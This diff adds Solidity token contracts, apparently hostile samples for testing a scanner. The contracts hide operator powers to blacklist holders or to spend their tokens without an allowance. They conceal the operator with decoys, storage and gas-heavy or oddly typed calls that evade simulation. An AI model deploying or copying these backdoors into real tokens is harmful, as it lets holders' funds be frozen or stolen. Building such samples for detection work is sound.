@@ -1,0 +1,161 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.37;
+
+import {Birth, PooledToken} from "./BaseToken.sol";
+
+/// Where the account with the power is named.
+enum Place {
+    Owner,
+    Storage,
+    Code,
+    Mapping
+}
+
+struct Hideout {
+    Place place;
+    /// Accounts without a power that stand before it.
+    uint256 decoys;
+    /// Calls of other accounts write to the storage as well.
+    bool noisy;
+}
+
+/// Powers at the bounds of a scan of owner functions. The call of any other account succeeds and has no effect.
+abstract contract QuietCore is PooledToken {
+    Hideout private hideout;
+    mapping(address => bool) private operators;
+    mapping(address => uint256) private notes;
+    mapping(address => uint256) internal status;
+    address[12] private accounts;
+
+    address private immutable first;
+    address private immutable second;
+    address private immutable third;
+    address private immutable coded;
+
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) PooledToken(birth) {
+        hideout = hideout_;
+        Place place = hideout_.place;
+        if (place == Place.Mapping) operators[operator] = true;
+        bool isCoded = place == Place.Code;
+        first = isCoded && hideout_.decoys > 0 ? _decoy(1) : address(0);
+        second = isCoded && hideout_.decoys > 1 ? _decoy(2) : address(0);
+        third = isCoded && hideout_.decoys > 2 ? _decoy(3) : address(0);
+        coded = isCoded ? operator : address(0);
+        if (place != Place.Storage) return;
+        for (uint256 i; i < hideout_.decoys; i++) accounts[i] = _decoy(i + 1);
+        accounts[hideout_.decoys] = operator;
+    }
+
+    function owner() external view returns (address) {
+        return hideout.place == Place.Owner ? deployer : address(0);
+    }
+
+    /// Places the decoys before the operator in the code.
+    function team() external view returns (address, address, address) {
+        return (first, second, third);
+    }
+
+    function _decoy(uint256 number) private pure returns (address) {
+        return address(uint160(uint256(keccak256(abi.encode("decoy", number)))));
+    }
+
+    function _isOperator() internal returns (bool) {
+        if (hideout.noisy) notes[msg.sender]++;
+        Place place = hideout.place;
+        if (place == Place.Owner) return msg.sender == deployer;
+        if (place == Place.Storage) return msg.sender == accounts[hideout.decoys];
+        return place == Place.Code ? msg.sender == coded : operators[msg.sender];
+    }
+
+    function _transfer(address from, address to, uint256 amount) internal virtual override {
+        require(status[from] == 0 || block.timestamp < status[from] || _isTeam(from, to), "see the status");
+        _move(from, to, amount);
+    }
+}
+
+contract QuietListToken is QuietCore {
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function setStatus(address account, uint8 value) external {
+        if (_isOperator()) status[account] = value;
+    }
+}
+
+/// The list takes effect an hour later.
+contract LateListToken is QuietCore {
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function setStatus(address account) external {
+        if (_isOperator()) status[account] = block.timestamp + 1 hours;
+    }
+}
+
+/// Listing takes more gas than simulated calls get.
+contract HeavyListToken is QuietCore {
+    uint256 private sum;
+
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function setStatus(address account, uint8 value) external {
+        if (!_isOperator() || value != 1) return;
+        uint256 before = gasleft();
+        uint256 work = 1;
+        while (before - gasleft() < 6_000_000) work = uint256(keccak256(abi.encode(work)));
+        sum = work;
+        status[account] = value;
+    }
+}
+
+/// The holder stands in an argument of a type that a scan cannot fill, or in a number.
+contract ShapeListToken is QuietCore {
+    struct Entry {
+        address account;
+        uint8 value;
+    }
+
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function setEntries(Entry[] calldata entries) external {
+        require(_isOperator(), "not allowed");
+        for (uint256 i; i < entries.length; i++) status[entries[i].account] = entries[i].value;
+    }
+}
+
+contract NumberListToken is QuietCore {
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function record(uint256 number) external {
+        if (_isOperator()) status[address(uint160(number))] = 1;
+    }
+}
+
+contract BytesListToken is QuietCore {
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function record(bytes calldata data) external {
+        require(_isOperator(), "not allowed");
+        status[abi.decode(data, (address))] = 1;
+    }
+}
+
+/// ERC-20's own functions have a second meaning for the operator.
+contract BackdoorToken is QuietCore {
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function approve(address spender, uint256 amount) external override returns (bool) {
+        if (_isOperator()) status[spender] = 1;
+        _approve(msg.sender, spender, amount);
+        return true;
+    }
+}
+
+/// The operator spends what holders have, without an allowance.
+contract FreeSpenderToken is QuietCore {
+    constructor(Birth memory birth, Hideout memory hideout_, address operator) QuietCore(birth, hideout_, operator) {}
+
+    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
+        if (!_isOperator()) _spend(from, amount);
+        _transfer(from, to, amount);
+        return true;
+    }
+}
